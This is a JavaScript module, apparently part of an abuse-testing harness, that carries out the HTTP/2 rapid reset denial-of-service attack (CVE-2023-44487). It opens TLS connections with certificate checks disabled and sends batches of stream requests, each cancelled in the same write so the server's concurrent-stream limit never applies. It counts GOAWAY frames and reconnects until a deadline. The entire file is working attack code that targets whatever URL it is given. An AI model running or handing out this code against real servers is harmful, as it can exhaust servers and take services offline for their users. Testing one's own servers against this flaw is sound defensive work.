'use strict';
// Abuse: HTTP/2 rapid reset (CVE-2023-44487). Each stream is opened (HEADERS for a segment) and
// cancelled (RST_STREAM) in the same write, in batches, so the client never counts against
// the server's concurrent-stream limit while the server starts work on every one. Bounded: a
// pause between batches, a new connection only after the server ended the last one (GOAWAY),
// and the phase's end.
const tls = require('node:tls');
const { once } = require('node:events');
const { setTimeout: sleep } = require('node:timers/promises');
const h2 = require('../../h2-wire');
const { untilPhaseEnds } = require('./abuse-run');

const CANCEL = 0x8; // the RST_STREAM code a browser sends for a request it no longer wants
// Stream ids are 31-bit odd numbers; a connection that used them all starts over.
const MAX_STREAM_ID = 2 ** 31 - 1;

/** Calls back once the socket drained or closed, leaving no listener behind. */
function waitForDrain(socket, callback) {
  const done = () => {
    socket.off('drain', done);
    socket.off('close', done);
    callback();
  };
  socket.on('drain', done);
  socket.on('close', done);
}

/**
 * @param {object} o
 * @param {string} o.url           https://host:port of the HTTP/2 listener
 * @param {string} o.path          the segment each stream asks for
 * @param {number} o.streamsPerBatch
 * @param {number} o.batchEveryMs
 * @param {number} o.until         Date.now() time to stop
 * @param {AbortSignal} o.signal
 * @param {object} o.stats         {connections, streams, goaways: {code: n}, closedByServer, errors}
 */
function runRapidReset(o) {
  const { hostname, port, host } = new URL(o.url);
  const connectOnce = async () => {
    const socket = tls.connect({ host: hostname, port: Number(port), ALPNProtocols: ['h2'], rejectUnauthorized: false });
    socket.on('error', () => {});
    await once(socket, 'secureConnect');
    o.stats.connections += 1;
    let closed = false;
    socket.once('close', () => {
      closed = true;
    });
    const readFrames = h2.createFrameReader();
    socket.on('data', (chunk) => readFrames(chunk).forEach((f) => {
      if (f.type === h2.TYPE.SETTINGS && !(f.flags & h2.FLAG.ACK)) socket.write(h2.settingsFrame([], true));
      else if (f.type === h2.TYPE.PING && !(f.flags & h2.FLAG.ACK)) socket.write(h2.ping(f.payload, true));
      else if (f.type === h2.TYPE.GOAWAY) {
        const code = f.payload.length >= 8 ? f.payload.readUInt32BE(4) : -1;
        o.stats.goaways[code] = (o.stats.goaways[code] || 0) + 1;
        closed = true; // no more streams on a connection the server is ending
        socket.end();
      }
    }));
    socket.write(Buffer.concat([h2.PREFACE, h2.settingsFrame([])]));
    let streamId = 1;
    while (!closed && !o.signal.aborted && Date.now() < o.until && streamId + 2 * o.streamsPerBatch < MAX_STREAM_ID) {
      const batch = [];
      for (let i = 0; i < o.streamsPerBatch; i += 1, streamId += 2) batch.push(h2.getRequest(streamId, host, o.path), h2.rstStream(streamId, CANCEL));
      o.stats.streams += o.streamsPerBatch;
      // Waiting for 'drain' keeps the client's own buffers bounded when the server reads slowly.
      if (!socket.write(Buffer.concat(batch))) await new Promise((resolve) => waitForDrain(socket, resolve));
      await sleep(o.batchEveryMs, undefined, { signal: o.signal }).catch(() => {});
    }
    if (closed && !o.signal.aborted && Date.now() < o.until) o.stats.closedByServer += 1;
    socket.destroy();
  };
  return untilPhaseEnds({ until: o.until, signal: o.signal, connectOnce, stats: o.stats, pauseMs: 200 });
}

module.exports = { runRapidReset };
